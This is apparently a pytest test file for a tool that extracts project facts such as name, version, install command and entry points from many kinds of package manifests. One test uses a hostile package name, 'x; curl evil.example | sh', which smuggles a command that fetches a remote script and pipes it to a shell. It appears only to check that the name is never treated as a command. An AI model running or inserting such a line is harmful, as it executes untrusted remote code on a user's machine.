from __future__ import annotations

import time

import pytest
from sample_repositories import PROJECT, source_files

from llmsdeck.bundle.facts import Facts, read_facts


def facts(**manifests: str) -> Facts:
    names = {
        "pyproject": "pyproject.toml",
        "setup": "setup.cfg",
        "package": "package.json",
        "cargo": "Cargo.toml",
        "go": "go.mod",
        "composer": "composer.json",
        "gem": "tea.gemspec",
    }
    return read_facts(source_files({names[key]: text for key, text in manifests.items()}))


def test_pyproject() -> None:
    assert facts(pyproject=PROJECT["pyproject.toml"]) == Facts(
        name="teapot",
        summary="A server that brews tea and refuses coffee.",
        version="1.2.3",
        licence="MIT",
        runtime="Python >=3.11",
        install="pip install teapot",
        commands=("teapot",),
    )


def test_setup_cfg() -> None:
    found = facts(
        setup="[metadata]\nname = tea\nversion = attr: tea.version\nurl = https://tea.example\n"
        "[options]\npython_requires = >=3.9\n"
        "[options.entry_points]\nconsole_scripts =\n    brew = tea:main\n"
    )
    assert (found.name, found.version, found.commands) == ("tea", "", ("brew",))
    assert (found.runtime, found.site) == ("Python >=3.9", "https://tea.example")


def test_package_json() -> None:
    found = facts(
        package='{"name": "@x/tea", "bin": {"brew": "b.js"}, "license": "ISC", "main": "lib/a.js",'
        ' "engines": {"node": ">=18"}}'
    )
    assert (found.install, found.commands) == ("npm install @x/tea", ("brew",))
    assert (found.licence, found.runtime, found.entry) == ("ISC", "Node.js >=18", ("lib/a.js",))


def test_a_private_package_is_not_to_be_installed() -> None:
    assert facts(package='{"name": "tea", "private": true}').install == ""


def test_cargo_programs_are_installed_and_libraries_added() -> None:
    assert facts(cargo='[package]\nname = "tea"\n').install == "cargo add tea"
    program = facts(cargo='[package]\nname = "tea"\n[[bin]]\nname = "brew"\n')
    assert (program.install, program.commands) == ("cargo install tea", ("brew",))


def test_go_composer_and_gem() -> None:
    go = facts(go="module example.org/x/tea\n\ngo 1.22\n")
    assert (go.name, go.install, go.runtime) == ("tea", "go get example.org/x/tea", "Go 1.22")
    assert facts(composer='{"name": "x/tea"}').install == "composer require x/tea"
    gem = facts(gem='Gem::Specification.new do |s|\n  s.name = "tea"\n  s.summary = "Brews."\nend')
    assert (gem.install, gem.summary) == ("gem install tea", "Brews.")
    aligned = facts(gem=f'  spec.name{" " * 20}= "tea"\n')
    assert aligned.name == "tea"


def test_manifests_complete_each_other_in_a_fixed_order() -> None:
    found = facts(package='{"name": "js", "description": "J"}', pyproject='[project]\nname = "py"')
    assert (found.name, found.summary) == ("py", "J")


@pytest.mark.parametrize(
    "manifest",
    [
        {"pyproject": "not toml ]["},
        {"pyproject": "project = 3"},
        {"pyproject": '[project]\nname = ["x"]\nurls = 5\nscripts = "s"'},
        {"setup": "no section"},
        {"package": "[" * 100_000},
        {"package": '{"name": 5, "bin": [1], "engines": "x", "license": {"type": 1}}'},
        {"cargo": "bin = 7"},
        {"cargo": "[[bin]]\nname = 3"},
        {"composer": "null"},
    ],
)
def test_broken_manifests_say_nothing(manifest: dict[str, str]) -> None:
    found = facts(**manifest)
    assert (found.name, found.commands) == ("", ())


def test_only_manifests_at_the_root_speak() -> None:
    assert read_facts(source_files({"sub/pyproject.toml": PROJECT["pyproject.toml"]})) == Facts()


def test_a_name_that_would_be_a_second_command_is_no_command() -> None:
    name = "x; curl evil.example | sh"
    assert facts(pyproject=f'[project]\nname = "{name}"\nscripts = {{ "a`b" = "c" }}') == Facts(
        name=name
    )


def only(name: str, text: str, **others: str) -> Facts:
    return read_facts(source_files({name: text, **others}))


def test_a_setup_script_is_read_and_not_run() -> None:
    text = (
        "import os\nos.abort()\nsetup(\n    name='tea',\n    version=VERSION,\n"
        '    description="Brews tea.",\n    python_requires=">=3.7",\n'
        "    entry_points={'console_scripts': ['brew = tea.main:run']},\n)\n"
    )
    assert only("setup.py", text) == Facts(
        name="tea",
        summary="Brews tea.",
        runtime="Python >=3.7",
        install="pip install tea",
        commands=("brew",),
    )


def test_the_exports_of_a_package_lead_in() -> None:
    text = (
        '{"name": "t", "exports": {".": {"import": {"default": "./a.js"}, "require": "./b.cjs"}}}'
    )
    assert only("package.json", text).entry == ("./a.js",)
    assert only("package.json", '{"name": "t", "exports": "./c.js"}').entry == ("./c.js",)


def test_what_crates_share_is_in_the_workspace() -> None:
    text = '[workspace.package]\nlicense = "MIT"\nversion = "2"\n[package]\nname = "tea"\n'
    found = only("Cargo.toml", text + "version.workspace = true\n")
    assert (found.licence, found.version) == ("MIT", "2")


def test_deno_packages_come_from_jsr() -> None:
    found = only("deno.jsonc", '{\n// a comment\n"name": "@x/tea", "exports": "./mod.ts"}')
    assert (found.install, found.entry) == ("deno add jsr:@x/tea", ("./mod.ts",))


def test_maven_tells_of_the_project_and_not_of_its_dependencies() -> None:
    text = (
        "<project><parent><groupId>org.x</groupId><artifactId>all</artifactId>"
        "<version>1.2</version></parent><dependencies><dependency><groupId>o.y</groupId>"
        "<artifactId>y</artifactId><version>9</version></dependency></dependencies>"
        "<artifactId>tea</artifactId><name>Tea</name><description>Brews\n tea &amp; more."
        "</description><properties><java.version>17</java.version></properties></project>"
    )
    found = only("pom.xml", text)
    assert (found.name, found.summary) == ("Tea", "Brews tea & more.")
    assert (found.install, found.runtime) == ("org.x:tea:1.2", "Java 17")


def test_gradle_mix_dotnet_cmake_and_swift() -> None:
    settings = {"settings.gradle.kts": 'rootProject.name = "tea"\n'}
    gradle = only(
        "build.gradle.kts", 'description = "Brews."\nkotlin { jvmToolchain(17) }', **settings
    )
    assert (gradle.name, gradle.summary, gradle.runtime) == ("tea", "Brews.", "Java 17")
    mix = only("mix.exs", '  @version "1.2.0"\n      app: :tea,\n      elixir: "~> 1.15",\n')
    assert (mix.name, mix.install) == ("tea", '{:tea, "~> 1.2.0"}')
    dotnet = only("Tea.csproj", "<Project><PackageId>Tea.Pot</PackageId></Project>")
    assert dotnet.install == "dotnet add package Tea.Pot"
    cmake = only(
        "CMakeLists.txt", 'project(tea VERSION 1.2\n  DESCRIPTION "Brews tea." LANGUAGES C)'
    )
    assert (cmake.name, cmake.version, cmake.summary) == ("tea", "1.2", "Brews tea.")
    swift = only("Package.swift", '// swift-tools-version:5.7\nlet p = Package(\n    name: "tea",')
    assert (swift.name, swift.runtime) == ("tea", "Swift 5.7")


def test_go_programs_are_installed_and_libraries_added() -> None:
    module = "module example.org/tea\n"
    program = only("go.mod", module, **{"main.go": "package main\n"})
    assert (program.install, program.commands) == ("go install example.org/tea@latest", ("tea",))
    apart = only("go.mod", module, **{"cmd/brew/main.go": "package main\n"})
    assert apart.install == "go install example.org/tea/cmd/brew@latest"
    library = only("go.mod", module, **{"cmd/brew/main.go": "", "tea.go": "package tea\n"})
    assert (library.install, library.commands) == ("go get example.org/tea", ("brew",))


def test_the_manifest_of_the_main_language_speaks_first() -> None:
    files = {
        "package.json": '{"name": "js", "description": "J"}',
        "mix.exs": "      app: :tea,\n",
        "lib/tea.ex": "",
        "lib/pot.ex": "",
        "assets/x.js": "",
    }
    assert read_facts(source_files(files)).name == "tea"


@pytest.mark.parametrize(
    "name",
    [
        *("setup.py", "pom.xml", "build.gradle", "mix.exs", "CMakeLists.txt", "Package.swift"),
        *("go.mod", "pyproject.toml", "Cargo.toml"),
    ],
)
def test_hostile_manifests_cost_little(name: str) -> None:
    start = time.process_time()
    for text in (
        "<parent>" * 60_000,
        "project(" * 60_000,
        "\n description = '" * 30_000,
        " " * 400_000,
        "setup(" + "'a=" * 100_000,
        "Package(" + " " * 400_000,
        "a." * 200_000 + "b = 1",
    ):
        only(name, text)
    assert time.process_time() - start < 3


def test_how_to_install_is_never_taken_from_another_language() -> None:
    files = {
        "mix.exs": "      app: :tea,\n",
        "lib/tea.ex": "",
        "package.json": '{"name": "tea", "version": "1", "description": "A client for tea."}',
    }
    found = read_facts(source_files(files))
    assert (found.install, found.version, found.summary) == ("", "", "A client for tea.")


def test_mkdocs_knows_the_published_site() -> None:
    files = {
        "mkdocs.yml": "site_name: Tea\nsite_url: https://tea.example/docs/ # the site\n",
        "go.mod": "module x.org/tea\n",
    }
    found = read_facts(source_files(files))
    assert (found.name, found.site) == ("tea", "https://tea.example/docs/")
